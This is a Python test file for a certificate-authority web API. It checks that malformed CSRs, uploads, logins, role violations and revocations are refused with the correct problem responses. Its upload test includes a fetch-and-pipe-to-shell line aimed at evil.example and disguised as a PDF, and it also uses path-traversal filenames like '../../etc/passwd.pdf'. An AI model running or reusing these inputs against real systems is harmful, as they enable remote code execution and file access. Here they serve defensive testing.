"""Refusals of the HTTP API: bad input and wrong roles.

Every refusal is pinned by its exact status, ``content-type: application/problem+json``
and the stable ``code`` of its RFC 9457 body (``type``, ``title``, ``status``,
``detail``, ``code``). No input here may produce a 500.
"""

from __future__ import annotations

import base64
import datetime as dt
import secrets
from collections.abc import Iterator
from http import HTTPStatus
from pathlib import Path
from typing import Any

import httpx
from asn1crypto import csr as asn1_csr
from asn1crypto import keys as asn1_keys
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from api.services import Services
from ca.models import CertificateRecord, CertificateStatus
from issuance.codes import generate_download_code, hash_download_code
from issuance.models import DownloadCode
from tests.conftest import START, FrozenClock
from tests.helpers import (
    APPLICANT_PASSWORD,
    OFFICER_PASSWORD,
    PDF,
    approved_application,
    bearer,
    collect_with_csr,
    create_application,
    fill_steps,
    login,
    make_csr,
    officer_token,
    submitted_application,
)

PROBLEM_JSON = "application/problem+json"
MIB = 1024 * 1024
#: What the upload route allows around the file for multipart framing (api.app).
MULTIPART_OVERHEAD = 64 * 1024


def assert_problem(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    """The response is an RFC 9457 problem with ``status`` and ``code``; returns the body."""
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == PROBLEM_JSON, response.headers
    body: dict[str, Any] = response.json()
    assert {"type", "title", "status", "detail", "code"} <= body.keys(), body
    assert body["type"] == "about:blank"
    assert body["title"] == HTTPStatus(status).phrase
    assert body["status"] == status
    assert body["code"] == code, body
    assert isinstance(body["detail"], str) and body["detail"]
    return body


def _collect(
    client: TestClient, reference: str, token: str, number: int | str, **body: Any
) -> httpx.Response:
    response: httpx.Response = client.post(
        f"/api/v1/applications/{reference}/service-locations/{number}/certificate",
        json=body,
        headers=bearer(token),
    )
    return response


def _csr(key: Any) -> str:
    """A PEM CSR signed by ``key`` with SHA-256 (Ed25519 takes no hash)."""
    algorithm = None if isinstance(key, ed25519.Ed25519PrivateKey) else hashes.SHA256()
    csr = (
        x509.CertificateSigningRequestBuilder()
        .subject_name(x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "x")]))
        .sign(key, algorithm)
    )
    return csr.public_bytes(serialization.Encoding.PEM).decode()


def _pem(der: bytes) -> str:
    b64 = base64.b64encode(der).decode()
    lines = "\n".join(b64[i : i + 64] for i in range(0, len(b64), 64))
    return f"-----BEGIN CERTIFICATE REQUEST-----\n{lines}\n-----END CERTIFICATE REQUEST-----\n"


def _broken_signature(pem: str) -> str:
    """``pem`` with the last byte of its signature (inside ECDSA's ``s``) flipped."""
    der = bytearray(x509.load_pem_x509_csr(pem.encode()).public_bytes(serialization.Encoding.DER))
    der[-1] ^= 0x01
    return _pem(bytes(der))


def _oversized_rsa_csr() -> str:
    """A CSR whose RSA modulus has 8200 bits (a random odd number: the key policy is
    checked before the signature, so no real 8200-bit key has to be generated)."""
    key = rsa.generate_private_key(65537, 2048)
    der = x509.load_pem_x509_csr(_csr(key).encode()).public_bytes(serialization.Encoding.DER)
    request = asn1_csr.CertificationRequest.load(der)
    info = request["certification_request_info"].copy()
    modulus = (1 << 8199) | secrets.randbits(8199) | 1
    info["subject_pk_info"] = asn1_keys.PublicKeyInfo(
        {
            "algorithm": {"algorithm": "rsa"},
            "public_key": asn1_keys.RSAPublicKey({"modulus": modulus, "public_exponent": 65537}),
        }
    )
    forged = asn1_csr.CertificationRequest(
        {
            "certification_request_info": info,
            "signature_algorithm": request["signature_algorithm"],
            "signature": request["signature"],
        }
    )
    return _pem(forged.dump())


def _certificate_rows(services: Services, reference: str) -> list[CertificateRecord]:
    with services.sessions() as session:
        return list(
            session.scalars(
                select(CertificateRecord).where(CertificateRecord.provider_reference == reference)
            )
        )


# --------------------------------------------------------------------------- collection


def test_download_code_refusals(
    client: TestClient, services: Services, samples: list[dict[str, Any]]
) -> None:
    reference, token, codes = approved_application(client, services, samples[1])
    assert sorted(codes) == [1, 2, 3]
    csr = make_csr()[1]

    # A well-formed code nobody was sent, and the code of another location.
    wrong = _collect(client, reference, token, 1, download_code=generate_download_code(), csr=csr)
    assert_problem(wrong, 403, "download_code_invalid")
    other = _collect(client, reference, token, 1, download_code=codes[2], csr=csr)
    body = assert_problem(other, 403, "download_code_invalid")
    assert codes[2] not in other.text and body["detail"] == (
        "download code is not valid for this service location"
    )

    # The right code works once (typed in lower case: case and dashes are ignored) ...
    first = _collect(client, reference, token, 1, download_code=codes[1].lower(), csr=csr)
    assert first.status_code == 201, first.text
    # ... and is refused afterwards, also with a fresh key.
    again = _collect(client, reference, token, 1, download_code=codes[1], csr=make_csr()[1])
    assert_problem(again, 409, "download_code_used")
    # A used code of location 1 is still "not valid" at location 2 (location checked first).
    elsewhere = _collect(client, reference, token, 2, download_code=codes[1], csr=csr)
    assert_problem(elsewhere, 403, "download_code_invalid")

    # Unknown location ids of an approved application.
    for number in (0, 4, -1, 10**30):
        missing = _collect(client, reference, token, number, download_code=codes[2], csr=csr)
        assert_problem(missing, 404, "service_location_not_found")
    for not_a_number in ("abc", "1.5"):
        bad = _collect(client, reference, token, not_a_number, download_code=codes[2], csr=csr)
        assert_problem(bad, 422, "invalid_request")

    # None of those refusals used the other codes or made certificate rows.
    assert len(_certificate_rows(services, reference)) == 1
    body2 = collect_with_csr(client, reference, token, 2, codes[2], make_csr()[1])
    assert len(body2["serial_number"]) == 40

    # An Idempotency-Key replays a CSR collection, but never a PKCS#12 download (the
    # generated key was not stored).
    url = f"/api/v1/applications/{reference}/service-locations/3/certificate"
    p12 = {"download_code": codes[3], "pkcs12_password": APPLICANT_PASSWORD}
    headers = {**bearer(token), "Idempotency-Key": "p12-once"}
    assert client.post(url, json=p12, headers=headers).status_code == 201
    replay = client.post(url, json=p12, headers=headers)
    assert_problem(replay, 409, "idempotency_key_reused")
    assert APPLICANT_PASSWORD not in replay.text and codes[3] not in replay.text
    assert len(_certificate_rows(services, reference)) == 3


def test_expired_download_code_is_gone(
    client: TestClient, services: Services, samples: list[dict[str, Any]], clock: FrozenClock
) -> None:
    reference, token, codes = approved_application(client, services, samples[2])
    clock.advance(days=61)
    # The login from 61 days ago has expired too (tokens last 8 hours).
    stale = _collect(client, reference, token, 1, download_code=codes[1], csr=make_csr()[1])
    assert_problem(stale, 401, "not_authenticated")
    assert stale.headers["www-authenticate"] == "Bearer"
    fresh = login(client, reference, APPLICANT_PASSWORD)
    expired = _collect(client, reference, fresh, 1, download_code=codes[1], csr=make_csr()[1])
    assert_problem(expired, 410, "download_code_expired")
    assert _certificate_rows(services, reference) == []


def test_refused_collections_do_not_burn_the_download_code(
    client: TestClient, services: Services, samples: list[dict[str, Any]]
) -> None:
    reference, token, codes = approved_application(client, services, samples[2])
    code = codes[1]
    good_csr = make_csr()[1]
    cases: list[tuple[str, dict[str, Any], int, str]] = [
        ("broken signature", {"csr": _broken_signature(good_csr)}, 400, "csr_signature_invalid"),
        ("not PEM or DER", {"csr": "hello, I am a CSR"}, 400, "csr_malformed"),
        (
            "PEM armour around junk",
            {"csr": "-----BEGIN CERTIFICATE REQUEST-----\nAAAA\n-----END CERTIFICATE REQUEST-----"},
            400,
            "csr_malformed",
        ),
        ("over 16 KiB", {"csr": good_csr + " " * (16 * 1024)}, 400, "csr_too_large"),
        ("over the 32 KiB field limit", {"csr": "A" * (32 * 1024 + 1)}, 422, "invalid_request"),
        (
            "RSA-1024",
            {"csr": _csr(rsa.generate_private_key(65537, 1024))},  # noqa: S505 - refused on purpose
            422,
            "csr_rsa_key_too_small",
        ),
        ("RSA-8200", {"csr": _oversized_rsa_csr()}, 422, "csr_rsa_key_too_large"),
        ("RSA e=3", {"csr": _csr(rsa.generate_private_key(3, 2048))}, 422, "csr_rsa_exponent"),
        (
            "P-521",
            {"csr": _csr(ec.generate_private_key(ec.SECP521R1()))},
            422,
            "csr_ec_curve_unsupported",
        ),
        (
            "secp256k1",
            {"csr": _csr(ec.generate_private_key(ec.SECP256K1()))},
            422,
            "csr_ec_curve_unsupported",
        ),
        (
            "Ed25519",
            {"csr": _csr(ed25519.Ed25519PrivateKey.generate())},
            422,
            "csr_key_type_unsupported",
        ),
        (
            "both methods",
            {"csr": good_csr, "pkcs12_password": APPLICANT_PASSWORD},
            422,
            "collection_method_invalid",
        ),
        ("neither method", {}, 422, "collection_method_invalid"),
        ("5-character password", {"pkcs12_password": "12345"}, 422, "pkcs12_password_rejected"),
        (
            "password with a control character",
            {"pkcs12_password": "long-enough-but\x07bell"},
            422,
            "pkcs12_password_rejected",
        ),
        (
            "password over 128 characters",
            {"pkcs12_password": "p" * 129},
            422,
            "pkcs12_password_rejected",
        ),
        (
            "unknown PKCS#12 profile",
            {"pkcs12_password": APPLICANT_PASSWORD, "pkcs12_profile": "rc2-40"},
            422,
            "invalid_request",
        ),
        (
            "key type not offered",
            {"pkcs12_password": APPLICANT_PASSWORD, "key_type": "rsa-1024"},
            422,
            "invalid_request",
        ),
        ("unknown field", {"csr": good_csr, "subject": "CN=me"}, 422, "invalid_request"),
    ]
    for name, extra, status, error_code in cases:
        response = _collect(client, reference, token, 1, download_code=code, **extra)
        body = assert_problem(response, status, error_code)
        assert code not in response.text, name
        assert APPLICANT_PASSWORD not in response.text, name
        if name == "over 16 KiB":
            assert "16384" in body["detail"]
    for blank in ("", "x" * 65):
        response = _collect(client, reference, token, 1, download_code=blank, csr=good_csr)
        assert_problem(response, 422, "invalid_request")

    # Nothing was reserved or signed, and the code still works.
    assert _certificate_rows(services, reference) == []
    with services.sessions() as session:
        row = session.scalars(
            select(DownloadCode).where(DownloadCode.code_sha256 == hash_download_code(code))
        ).one()
        assert row.used_at is None
    body = collect_with_csr(client, reference, token, 1, code, good_csr)
    rows = _certificate_rows(services, reference)
    assert [(r.serial_number, r.status) for r in rows] == [
        (body["serial_number"], CertificateStatus.ISSUED)
    ]


def test_collection_before_approval(
    client: TestClient, services: Services, samples: list[dict[str, Any]]
) -> None:
    reference, token = create_application(client, samples[2])
    draft = _collect(client, reference, token, 1, download_code="AAAA", csr=make_csr()[1])
    assert_problem(draft, 409, "application_not_approved")
    fill_steps(client, reference, token, samples[2])
    assert (
        client.post(f"/api/v1/applications/{reference}/submit", headers=bearer(token)).status_code
        == 200
    )
    for number in (1, 99):  # the state is checked before the location
        submitted = _collect(
            client, reference, token, number, download_code="AAAA", csr=make_csr()[1]
        )
        body = assert_problem(submitted, 409, "application_not_approved")
        assert "submitted" in body["detail"]


# --------------------------------------------------------------------------- auth and roles


def test_authentication_refusals(
    client: TestClient, services: Services, samples: list[dict[str, Any]], clock: FrozenClock
) -> None:
    reference, token = create_application(client, samples[0])
    url = f"/api/v1/applications/{reference}"
    for headers in (
        {},
        {"Authorization": "Bearer"},
        {"Authorization": "Bearer    "},
        {"Authorization": f"Basic {token}"},
        {"Authorization": token},
        {"Authorization": "Bearer not-a-token"},
        {"Authorization": f"Bearer {token}x"},
    ):
        response = client.get(url, headers=headers)
        assert_problem(response, 401, "not_authenticated")
        assert response.headers["www-authenticate"] == "Bearer"

    officer_token(client, services, "rev-auth", "reviewer")
    for username, password in (
        (reference, "wrong-password-123"),
        (reference, OFFICER_PASSWORD),
        ("HCP-00000000", APPLICANT_PASSWORD),
        ("rev-auth", APPLICANT_PASSWORD),
        ("nobody", OFFICER_PASSWORD),
        ("💥" * 20, "not-echoed-password"),
    ):
        response = client.post(
            "/api/v1/auth/token", data={"username": username, "password": password}
        )
        body = assert_problem(response, 401, "invalid_credentials")
        assert response.headers["www-authenticate"] == "Bearer"
        assert password not in response.text
        assert body["detail"] == "username or password is wrong"
    for form in (
        {"username": reference},
        {"password": APPLICANT_PASSWORD},
        {"username": "", "password": APPLICANT_PASSWORD},
        {"username": "x" * 129, "password": APPLICANT_PASSWORD},
        {"username": reference, "password": "p" * 257},
        {"username": "a\x00b", "password": APPLICANT_PASSWORD},
    ):
        response = client.post("/api/v1/auth/token", data=form)
        assert_problem(response, 422, "invalid_request")
        assert APPLICANT_PASSWORD not in response.text
    as_json = client.post(
        "/api/v1/auth/token", json={"username": reference, "password": APPLICANT_PASSWORD}
    )
    assert_problem(as_json, 422, "invalid_request")

    # Tokens expire (8 hours).
    assert client.get(url, headers=bearer(token)).status_code == 200
    clock.advance(hours=8)
    assert_problem(client.get(url, headers=bearer(token)), 401, "not_authenticated")


def test_roles_are_enforced(
    client: TestClient, services: Services, samples: list[dict[str, Any]]
) -> None:
    sample = samples[2]
    reference, token = submitted_application(client, sample)
    other_reference, other_token = create_application(client, samples[0])
    reviewer = officer_token(client, services, "rev-roles", "reviewer")
    security = officer_token(client, services, "sec-roles", "security_officer")
    admin = officer_token(client, services, "adm-roles", "admin")
    base = f"/api/v1/applications/{reference}"
    serial = "ab" * 20
    decision = {"decision": "approve", "reason": "ok"}
    revoke = {"reason": "keyCompromise"}
    collect = {"download_code": "AAAA", "csr": make_csr()[1]}
    pdf = {"file": ("x.pdf", PDF, "application/pdf")}

    def applicant_steps(t: str, ref: str) -> list[httpx.Response]:
        b = f"/api/v1/applications/{ref}"
        return [
            client.put(f"{b}/provider", json=sample["provider"], headers=bearer(t)),
            client.put(f"{b}/user-admins", json=sample["user_admins"], headers=bearer(t)),
            client.put(
                f"{b}/service-locations", json=sample["service_locations"], headers=bearer(t)
            ),
            client.post(f"{b}/documents", data={"kind": "other"}, files=pdf, headers=bearer(t)),
            client.post(f"{b}/submit", headers=bearer(t)),
            client.post(f"{b}/service-locations/1/certificate", json=collect, headers=bearer(t)),
        ]

    # Officers may read an application but not act as its applicant.
    for officer in (reviewer, security, admin):
        assert client.get(base, headers=bearer(officer)).status_code == 200
        for response in applicant_steps(officer, reference):
            assert_problem(response, 403, "applicant_only")

    # Applicants are not officers.
    for response in (
        client.get("/api/v1/officer/applications", headers=bearer(token)),
        client.post(
            f"/api/v1/officer/applications/{reference}/decision",
            json=decision,
            headers=bearer(token),
        ),
        client.post(
            f"/api/v1/officer/certificates/{serial}/revoke", json=revoke, headers=bearer(token)
        ),
        client.post("/api/v1/officer/crl/publish", headers=bearer(token)),
    ):
        body = assert_problem(response, 403, "role_not_allowed")
        assert "you are applicant" in body["detail"]

    # Separate duties: reviewers decide, security officers revoke and publish.
    for officer, role in ((reviewer, "reviewer"), (admin, "admin")):
        response = client.post(
            f"/api/v1/officer/certificates/{serial}/revoke", json=revoke, headers=bearer(officer)
        )
        body = assert_problem(response, 403, "role_not_allowed")
        assert body["detail"] == f"this needs the role security_officer; you are {role}"
    assert_problem(
        client.post("/api/v1/officer/crl/publish", headers=bearer(reviewer)),
        403,
        "role_not_allowed",
    )
    for officer in (security, admin):
        response = client.post(
            f"/api/v1/officer/applications/{reference}/decision",
            json=decision,
            headers=bearer(officer),
        )
        assert_problem(response, 403, "role_not_allowed")
    assert_problem(
        client.get("/api/v1/officer/applications", headers=bearer(security)),
        403,
        "role_not_allowed",
    )
    # None of the refused decisions moved the application.
    assert client.get(base, headers=bearer(token)).json()["status"] == "submitted"

    # Another applicant's application looks exactly like an unknown one.
    others = [
        client.get(base, headers=bearer(other_token)),
        *applicant_steps(other_token, reference),
    ]
    for response in others:
        assert_problem(response, 404, "application_not_found")
    for who in (other_token, reviewer):
        for unknown in ("HCP-00000000", "HCP-0000000", "nope", other_reference.lower()):
            response = client.get(f"/api/v1/applications/{unknown}", headers=bearer(who))
            assert_problem(response, 404, "application_not_found")
    response = client.post(
        "/api/v1/officer/applications/HCP-00000000/decision",
        json=decision,
        headers=bearer(reviewer),
    )
    assert_problem(response, 404, "application_not_found")


# --------------------------------------------------------------------------- registration


def test_registration_validation_never_echoes_secrets(
    client: TestClient, samples: list[dict[str, Any]]
) -> None:
    secret = "Tr0ub4dor&3"  # 11 characters: one too short
    for body in (
        {"contact_email": "a@example.org", "password": secret},
        {"contact_email": "a@example.org", "password": secret * 12},  # 132 > 128
        {"contact_email": "not-an-email", "password": secret + "-long"},
        {"contact_email": "a@example.org", "password": secret + "-long", "language": "fr"},
        {"contact_email": "a@example.org", "password": secret + "-long", "role": "admin"},
        {"contact_email": "a@example.org"},
    ):
        response = client.post("/api/v1/applications", json=body)
        problem = assert_problem(response, 422, "invalid_request")
        assert secret not in response.text
        assert problem["errors"] and all(
            set(e) == {"loc", "msg", "type"} for e in problem["errors"]
        )
    response = client.post(
        "/api/v1/applications", json={"contact_email": "a@example.org", "password": secret}
    )
    assert assert_problem(response, 422, "invalid_request")["errors"][0]["loc"] == [
        "body",
        "password",
    ]

    sample = samples[2]
    reference, token = create_application(client, sample)
    base = f"/api/v1/applications/{reference}"
    provider = sample["provider"]
    for field, value in (
        ("business_registration_number", "1234567"),
        ("business_registration_number", "1234567X"),
        ("phone", "212345678"),
        ("phone", "12345678"),
        ("name_en", "N" * 65),
        ("name_zh", "醫" * 65),
        ("name_en", "Evil\x00Clinic"),
        ("name_en", "Two\nLines"),
        ("correspondence_address", "Nul\x00Street"),
        ("provider_type", "spaceship"),
        ("email", "nobody"),
        ("preferred_language", "fr"),
        ("shoe_size", 44),
    ):
        response = client.put(
            f"{base}/provider", json={**provider, field: value}, headers=bearer(token)
        )
        problem = assert_problem(response, 422, "invalid_request")
        assert problem["errors"][0]["loc"] == ["body", field], (field, problem)

    admin = sample["user_admins"][0]
    identity = admin["identity_document"]  # K234567(6)
    wrong_check = identity.replace("(6)", "(5)")
    for value in (wrong_check, "K234567", "1234567(8)"):
        response = client.put(
            f"{base}/user-admins",
            json=[{**admin, "identity_document": value}],
            headers=bearer(token),
        )
        problem = assert_problem(response, 422, "invalid_request")
        assert problem["errors"][0]["loc"] == ["body", 0, "identity_document"]
        assert value not in response.text and "234567" not in response.text
    for admins in ([], [admin] * 21, {"not": "a list"}):
        response = client.put(f"{base}/user-admins", json=admins, headers=bearer(token))
        assert_problem(response, 422, "invalid_request")

    location = sample["service_locations"][0]
    for field, value in (
        ("district", "Atlantis"),
        ("district", "kwun tong"),
        ("phone", "2756123"),
        ("name_en", "L" * 65),
        ("opening_status", "closed_forever"),
        ("floor", 3),
    ):
        response = client.put(
            f"{base}/service-locations", json=[{**location, field: value}], headers=bearer(token)
        )
        problem = assert_problem(response, 422, "invalid_request")
        assert problem["errors"][0]["loc"] == ["body", 0, field], (field, problem)
    response = client.put(f"{base}/service-locations", json=[], headers=bearer(token))
    assert_problem(response, 422, "invalid_request")

    # Nothing of it was stored.
    review = client.get(base, headers=bearer(token)).json()
    assert review["provider"] is None
    assert review["user_admins"] == [] and review["service_locations"] == []


def test_submit_edit_and_decision_state_rules(
    client: TestClient, services: Services, samples: list[dict[str, Any]]
) -> None:
    sample = samples[2]  # a laboratory
    reference, token = create_application(client, sample)
    base = f"/api/v1/applications/{reference}"

    def submit() -> httpx.Response:
        response: httpx.Response = client.post(f"{base}/submit", headers=bearer(token))
        return response

    body = assert_problem(submit(), 422, "application_incomplete")
    assert body["missing"] == ["provider", "user_admins", "service_locations", "documents"]
    put = client.put(f"{base}/provider", json=sample["provider"], headers=bearer(token))
    assert put.status_code == 200
    body = assert_problem(submit(), 422, "application_incomplete")
    assert body["missing"] == [
        "user_admins",
        "service_locations",
        "document:business_registration_certificate",
        "document:laboratory_accreditation",
    ]
    fill_steps(client, reference, token, sample)
    assert submit().status_code == 200

    # After submit the steps are locked.
    for path, payload in (
        ("provider", sample["provider"]),
        ("user-admins", sample["user_admins"]),
        ("service-locations", sample["service_locations"]),
    ):
        response = client.put(f"{base}/{path}", json=payload, headers=bearer(token))
        assert_problem(response, 409, "application_not_editable")
    upload = client.post(
        f"{base}/documents",
        data={"kind": "other"},
        files={"file": ("late.pdf", PDF.replace(b"Catalog", b"Late"), "application/pdf")},
        headers=bearer(token),
    )
    assert_problem(upload, 409, "application_not_editable")
    assert_problem(submit(), 409, "invalid_state_transition")

    reviewer = officer_token(client, services, "rev-state", "reviewer")
    url = f"/api/v1/officer/applications/{reference}/decision"
    for payload in (
        {"decision": "approve"},
        {"decision": "approve", "reason": ""},
        {"decision": "approve", "reason": "   "},
        {"decision": "approve", "reason": "r" * 2001},
        {"decision": "approve", "reason": "nul\x00byte"},
        {"decision": "maybe", "reason": "undecided"},
        {"decision": "approve", "reason": "ok", "notify": False},
        {"reason": "ok"},
    ):
        response = client.post(url, json=payload, headers=bearer(reviewer))
        assert_problem(response, 422, "invalid_request")
    assert client.get(base, headers=bearer(token)).json()["status"] == "submitted"

    approved = client.post(
        url, json={"decision": "approve", "reason": "documents verified"}, headers=bearer(reviewer)
    )
    assert approved.status_code == 200 and approved.json()["status"] == "approved"
    for decision in ("approve", "reject", "request_documents"):
        response = client.post(
            url, json={"decision": decision, "reason": "again"}, headers=bearer(reviewer)
        )
        body = assert_problem(response, 409, "invalid_state_transition")
        assert body["detail"] == f"cannot {decision} an application that is approved"
    review = client.get(base, headers=bearer(token)).json()
    assert review["status"] == "approved" and review["decision_reason"] == "documents verified"
    assert [e["to_status"] for e in review["events"]] == ["submitted", "approved"]
    # Exactly one set of download codes was made.
    with services.sessions() as session:
        assert session.scalar(select(func.count()).select_from(DownloadCode)) == 1


# --------------------------------------------------------------------------- documents


def _files_under(directory: Path) -> list[Path]:
    return sorted(p for p in directory.rglob("*") if p.is_file())


def test_document_refusals_and_storage(
    client: TestClient, services: Services, samples: list[dict[str, Any]], tmp_path: Path
) -> None:
    reference, token = create_application(client, samples[2])
    url = f"/api/v1/applications/{reference}/documents"

    def upload(
        content: bytes,
        *,
        name: str = "doc.pdf",
        kind: str | None = "other",
        headers: dict[str, str] | None = None,
    ) -> httpx.Response:
        data = {} if kind is None else {"kind": kind}
        response: httpx.Response = client.post(
            url,
            data=data,
            files={"file": (name, content, "application/pdf")},
            headers={**bearer(token), **(headers or {})},
        )
        return response

    script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
    assert_problem(upload(script, name="report.pdf"), 422, "document_type_not_allowed")
    assert_problem(upload(b"GIF89a" + b"\x00" * 32), 422, "document_type_not_allowed")
    assert_problem(upload(b""), 422, "document_empty")
    assert_problem(upload(PDF, kind="passport_of_the_cat"), 422, "document_kind_unknown")
    assert_problem(upload(PDF, kind="../other"), 422, "document_kind_unknown")
    assert_problem(upload(PDF, kind="x" * 65), 422, "invalid_request")
    assert_problem(upload(PDF, kind=None), 422, "invalid_request")
    no_file = client.post(url, data={"kind": "other"}, headers=bearer(token))
    assert_problem(no_file, 422, "invalid_request")

    # Path tricks in the file name: stored under a sanitised name, content-addressed.
    documents_dir = services.settings.documents_dir
    ids = []
    for i, name in enumerate(("../../etc/passwd.pdf", "..\\..\\x.pdf", "..", "/abs/../.pdf")):
        content = PDF.replace(b"Catalog", f"Catalog{i}".encode())
        response = upload(content, name=name)
        assert response.status_code == 201, response.text
        stored = response.json()
        ids.append(stored["id"])
        assert "/" not in stored["filename"] and "\\" not in stored["filename"]
        assert ".." not in stored["filename"] and stored["filename"].strip()
        sha = stored["sha256"]
        assert (documents_dir / sha[:2] / sha).read_bytes() == content
    names = [
        d["filename"]
        for d in client.get(f"/api/v1/applications/{reference}", headers=bearer(token)).json()[
            "documents"
        ]
    ]
    assert names == ["passwd.pdf", "x.pdf", "document", "pdf"]
    on_disk = _files_under(documents_dir)
    assert len(on_disk) == 4
    assert all(
        p.parent.parent == documents_dir and p.name.startswith(p.parent.name) for p in on_disk
    )
    assert not [p for p in tmp_path.rglob("*") if p.name in {"passwd.pdf", "x.pdf", "passwd"}]

    # The same bytes again: 200 with the same document, nothing new stored.
    same = upload(PDF.replace(b"Catalog", b"Catalog0"), name="copy.pdf")
    assert same.status_code == 200, same.text
    assert same.json()["id"] == ids[0] and same.json()["filename"] == "passwd.pdf"
    assert len(_files_under(documents_dir)) == 4

    # Size: a file over max_document_bytes within the multipart allowance reaches the
    # route, which reads one byte past the limit and refuses it (422); a body over
    # max_document_bytes + 64 KiB is refused by Content-Length before it is read (413).
    limit = services.settings.max_document_bytes
    assert limit == 10 * MIB
    too_large = upload(PDF + b"0" * (limit + 1 - len(PDF)))
    body = assert_problem(too_large, 422, "document_too_large")
    assert str(limit) in body["detail"]
    way_too_large = upload(PDF + b"0" * (limit + MULTIPART_OVERHEAD + 1 - len(PDF)))
    body = assert_problem(way_too_large, 413, "request_too_large")
    assert body["detail"] == f"request body exceeds {limit + MULTIPART_OVERHEAD} bytes"
    exactly = upload(PDF + b"1" * (limit - len(PDF)))
    assert exactly.status_code == 201, exactly.text
    assert exactly.json()["size_bytes"] == limit

    # A Content-Length that lies (huge, or smaller than the body) and a chunked body.
    lying = upload(PDF, headers={"content-length": str(10**12)})
    assert_problem(lying, 413, "request_too_large")
    small_claim = client.post(
        url,
        content=b"--b\r\n" + b"0" * (limit + 2 * MULTIPART_OVERHEAD),
        headers={
            **bearer(token),
            "content-type": "multipart/form-data; boundary=b",
            "content-length": "10",
        },
    )
    assert_problem(small_claim, 413, "request_too_large")

    def chunks() -> Iterator[bytes]:
        yield b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n'
        for _ in range(11):
            yield b"0" * MIB

    chunked = client.post(
        url,
        content=chunks(),
        headers={**bearer(token), "content-type": "multipart/form-data; boundary=b"},
    )
    assert_problem(chunked, 413, "request_too_large")
    assert len(_files_under(documents_dir)) == 5

    # At most 20 documents per application.
    count = len(
        client.get(f"/api/v1/applications/{reference}", headers=bearer(token)).json()["documents"]
    )
    for i in range(services.settings.max_documents - count):
        assert upload(PDF.replace(b"Catalog", f"More{i}".encode())).status_code == 201
    assert_problem(upload(PDF.replace(b"Catalog", b"OneTooMany")), 422, "too_many_documents")


def test_json_body_limits(client: TestClient) -> None:
    limit = 256 * 1024
    big = b'{"contact_email": "a@example.org", "password": "' + b"p" * limit + b'"}'
    declared = client.post(
        "/api/v1/applications", content=big, headers={"content-type": "application/json"}
    )
    body = assert_problem(declared, 413, "request_too_large")
    assert body["detail"] == f"request body exceeds {limit} bytes"
    assert b"pppp" not in declared.content

    def chunks() -> Iterator[bytes]:
        yield b'{"contact_email": "a@example.org", "password": "'
        for _ in range(5):
            yield b"p" * 64 * 1024
        yield b'"}'

    chunked = client.post(
        "/api/v1/applications", content=chunks(), headers={"content-type": "application/json"}
    )
    assert_problem(chunked, 413, "request_too_large")
    lying = client.post(
        "/api/v1/applications",
        content=b"{}",
        headers={"content-type": "application/json", "content-length": str(10**30)},
    )
    assert_problem(lying, 413, "request_too_large")


# --------------------------------------------------------------------------- revocation


def test_revocation_refusals(
    client: TestClient, services: Services, samples: list[dict[str, Any]], clock: FrozenClock
) -> None:
    reference, token, codes = approved_application(client, services, samples[2])
    serial = collect_with_csr(client, reference, token, 1, codes[1], make_csr()[1])["serial_number"]
    security = officer_token(client, services, "sec-rev", "security_officer")

    def revoke(target: str, payload: Any) -> httpx.Response:
        response: httpx.Response = client.post(
            f"/api/v1/officer/certificates/{target}/revoke", json=payload, headers=bearer(security)
        )
        return response

    unknown = "7" * 40
    for target in (unknown, "zz", "0", "0" * 40, "f" * 41, "-1", "0x", "%20"):
        assert_problem(revoke(target, {"reason": "superseded"}), 404, "certificate_not_found")
    assert_problem(
        revoke(serial, {"reason": "removeFromCRL"}), 403, "revocation_reason_not_allowed"
    )
    for reason in ("compromised", "KEYCOMPROMISE", "key_compromise", ""):
        body = assert_problem(revoke(serial, {"reason": reason}), 422, "invalid_revocation_request")
        assert "keyCompromise" in body["detail"]
    future = (clock() + dt.timedelta(minutes=1)).isoformat()
    for invalidity_date in (future, "2026-11-29T08:00:00", "0001-01-01T00:00:00+05:00"):
        response = revoke(serial, {"reason": "keyCompromise", "invalidity_date": invalidity_date})
        assert_problem(response, 422, "invalid_revocation_request")
    for payload in (
        {},
        {"reason": "x" * 33},
        {"reason": 1},
        {"reason": "keyCompromise", "invalidity_date": "yesterday"},
        {"reason": "keyCompromise", "comment": "extra"},
        ["keyCompromise"],
    ):
        assert_problem(revoke(serial, payload), 422, "invalid_request")

    # None of that revoked anything.
    (record,) = _certificate_rows(services, reference)
    assert record.status is CertificateStatus.ISSUED
    ok = revoke(serial, {"reason": "keyCompromise", "invalidity_date": "2026-11-29T08:00:00Z"})
    assert ok.status_code == 200, ok.text
    for target in (
        serial,
        serial.upper(),
        "0x" + serial,
        ":".join(serial[i : i + 2] for i in range(0, 40, 2)),
    ):
        body = assert_problem(
            revoke(target, {"reason": "superseded"}), 409, "certificate_already_revoked"
        )
        assert body["revocation_reason"] == "keyCompromise"
        assert body["revocation_date"] == START.isoformat()


# --------------------------------------------------------------------------- PKI


def test_pki_refusals(client: TestClient) -> None:
    for path in (
        "/pki/ca/nope.crt",
        "/pki/ca/%00.crt",
        "/pki/ca/ehrca-issuing-1.crt.crt",
        "/pki/crl/nope.crl",
        "/pki/crl/nope.pem",
        "/pki/crl/%00.crl",
    ):
        assert_problem(client.get(path), 404, "not_found")
    for path in (
        f"/api/v1/certificates/{'7' * 40}",
        f"/api/v1/certificates/{'7' * 40}?format=der",
        "/api/v1/certificates/not-hex",
        "/api/v1/certificates/%00",
        f"/api/v1/certificates/{'f' * 41}",
    ):
        assert_problem(client.get(path), 404, "certificate_not_found")
    for path in (
        "/pki/crl/ehrca-issuing-1.xml",
        f"/api/v1/certificates/{'7' * 40}?format=xml",
        "/api/v1/certificates/not-hex?format=PEM",
    ):
        assert_problem(client.get(path), 422, "invalid_request")
    assert client.get("/pki/ca/ehrca-issuing-1.crt").status_code == 200


# --------------------------------------------------------------------------- no 500s


def test_malformed_requests_never_cause_a_server_error(
    client: TestClient, services: Services, samples: list[dict[str, Any]]
) -> None:
    reference, token, _codes = approved_application(client, services, samples[2])
    reviewer = officer_token(client, services, "rev-walk", "reviewer")
    security = officer_token(client, services, "sec-walk", "security_officer")
    app = f"/api/v1/applications/{reference}"
